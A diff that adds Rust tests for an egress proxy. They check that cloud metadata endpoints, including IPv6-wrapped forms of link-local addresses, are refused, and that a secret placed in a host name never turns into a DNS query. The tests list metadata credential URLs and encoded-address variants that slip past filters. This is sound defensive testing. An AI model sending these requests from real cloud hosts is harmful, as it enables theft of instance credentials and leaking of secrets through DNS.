@@ -168,6 +168,142 @@ echo "CONNECT=$(curl -s -o /dev/null -w '%{{http_connect}}' -x http://127.0.0.1:
     assert!(out.contains("CONNECT=403"), "{out}");
 }
 
+/// A missing test peer skips the test locally and fails it in CI.
+fn skip(why: &str) {
+    assert!(
+        std::env::var("CI").as_deref() != Ok("true"),
+        "CI=true and a test peer is missing: {why}"
+    );
+    eprintln!("SKIP: {why}");
+}
+
+#[test]
+fn netns_every_metadata_endpoint_and_wrapped_form_is_refused() {
+    if !have("python3") {
+        return skip("python3 not available for the namespace origin");
+    }
+    let script = format!(
+        r#"{NETNS_PRELUDE}
+for a in 169.254.170.2 169.254.170.23 169.254.0.23 168.63.129.16 192.0.0.192 100.100.100.200; do
+  ip addr add $a/32 dev lo
+done
+for a in fd00:ec2::23 fd00:ec2::254 fd20:ce::254; do ip addr add $a/128 dev lo; done
+origin 168.63.129.16 80 || exit 1
+echo "DIRECT=$(curl -s -o /dev/null -w '%{{http_code}}' http://168.63.129.16/)"
+proxy 18386 --allow-private || exit 1
+for u in http://169.254.170.2/v2/credentials http://169.254.170.23/v1/credentials \
+         http://169.254.0.23/meta-data/ http://168.63.129.16/machine http://192.0.0.192/ \
+         http://100.100.100.200/latest/meta-data/ 'http://[fd00:ec2::23]/' \
+         'http://[fd00:ec2::254]/' 'http://[fd20:ce::254]/' \
+         'http://[64:ff9b::a9fe:a9fe]/' 'http://[64:ff9b:1::a9fe:a9fe]/' \
+         'http://[2002:a9fe:a9fe::1]/' 'http://[::ffff:0:a83f:8110]/' \
+         'http://[2001:0:4136:e378:8000:63bf:5601:5601]/' http://metadata.tencentyun.com/; do
+  echo "URL $u $(curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:18386 "$u")"
+done
+echo "CONNECT=$(curl -s -o /dev/null -w '%{{http_connect}}' -x http://127.0.0.1:18386 -k https://168.63.129.16/)"
+echo "LOG: $(grep -c 'cloud metadata endpoint' "$TMP/proxy18386.log")"
+"#
+    );
+    let Some(out) = in_netns(&script) else {
+        return skip("`unshare -n` is not available here (needs CAP_SYS_ADMIN)");
+    };
+    // WireServer is a public address and really answers here: only the policy refuses.
+    assert!(out.contains("DIRECT=200"), "{out}");
+    let urls: Vec<&str> = out.lines().filter(|l| l.starts_with("URL ")).collect();
+    assert_eq!(urls.len(), 15, "{out}");
+    for l in urls {
+        assert!(l.ends_with(" 403"), "{l}\n{out}");
+    }
+    assert!(out.contains("CONNECT=403"), "{out}");
+}
+
+/// A DNS server on 127.0.0.1:53 (in the namespace) that logs every query name to
+/// `$TMP/queries` and answers NXDOMAIN.
+const FAKE_DNS: &str = r#"
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.1", 53))
+log = open(sys.argv[1], "a", buffering=1)
+while True:
+    data, peer = s.recvfrom(512)
+    i, labels = 12, []
+    while i < len(data) and data[i]:
+        n = data[i]; labels.append(data[i+1:i+1+n].decode("ascii", "replace")); i += 1 + n
+    log.write(".".join(labels) + chr(10))
+    s.sendto(data[:2] + bytes([0x81, 0x83]) + data[4:6] + bytes(6) + data[12:i+5], peer)
+"#;
+
+#[test]
+fn netns_a_secret_in_a_host_name_never_becomes_a_dns_query() {
+    if !have("python3") {
+        return skip("python3 not available for the fake DNS server");
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let rules = rules_dir(dir.path());
+    let dns = dir.path().join("dns.py");
+    std::fs::write(&dns, FAKE_DNS).unwrap();
+    let script = format!(
+        r#"{NETNS_PRELUDE}
+echo "nameserver 127.0.0.1" > "$TMP/resolv.conf"
+mount --bind "$TMP/resolv.conf" /etc/resolv.conf || {{ echo NO_MOUNT; exit 0; }}
+python3 {dns} "$TMP/queries" & 
+sleep 0.5
+proxy 18387 --rules {rules} || exit 1
+echo "SECRET=$(curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:18387 http://{CANARY}.example/)"
+echo "SECRET_CONNECT=$(curl -s -o /dev/null -w '%{{http_connect}}' -x http://127.0.0.1:18387 -k https://x.{CANARY}.example/)"
+echo "CLEAN=$(curl -s -o /dev/null -w '%{{http_code}}' -x http://127.0.0.1:18387 http://clean-name.example/)"
+sleep 0.5
+echo "QUERIES:"; cat "$TMP/queries"
+echo "LOGGED:"; cat "$TMP/proxy18387.log"
+"#,
+        dns = dns.display(),
+        rules = rules.display(),
+    );
+    let out = match std::process::Command::new("timeout")
+        .args([
+            "120",
+            "unshare",
+            "-n",
+            "-m",
+            "--propagation",
+            "private",
+            "bash",
+            "-c",
+            &script,
+        ])
+        .env("CLAWGUARD", bin())
+        .env_remove("http_proxy")
+        .env_remove("HTTP_PROXY")
+        .env_remove("https_proxy")
+        .env_remove("HTTPS_PROXY")
+        .stdin(Stdio::null())
+        .output()
+    {
+        Ok(o) if o.status.success() || !o.stdout.is_empty() => {
+            String::from_utf8_lossy(&o.stdout).to_string()
+        }
+        _ => return skip("`unshare -n -m` is not available here"),
+    };
+    if out.contains("NO_MOUNT") {
+        return skip("cannot bind-mount /etc/resolv.conf in a mount namespace");
+    }
+    assert!(out.contains("SECRET=403"), "{out}");
+    assert!(out.contains("SECRET_CONNECT=403"), "{out}");
+    let queries = out.split("QUERIES:").nth(1).unwrap_or_default();
+    let queries = queries.split("LOGGED:").next().unwrap_or_default();
+    // The control: a clean name is looked up (and does not exist).
+    assert!(queries.contains("clean-name.example"), "{out}");
+    assert!(
+        !queries.to_ascii_uppercase().contains("ABCDEF123456"),
+        "the secret left as a DNS query:\n{out}"
+    );
+    let logged = out.split("LOGGED:").nth(1).unwrap_or_default();
+    assert!(
+        !logged.contains("ABCDEF123456"),
+        "the proxy log holds the secret:\n{out}"
+    );
+}
+
 #[test]
 fn netns_private_address_is_refused_without_allow_private() {
     if !have("python3") {
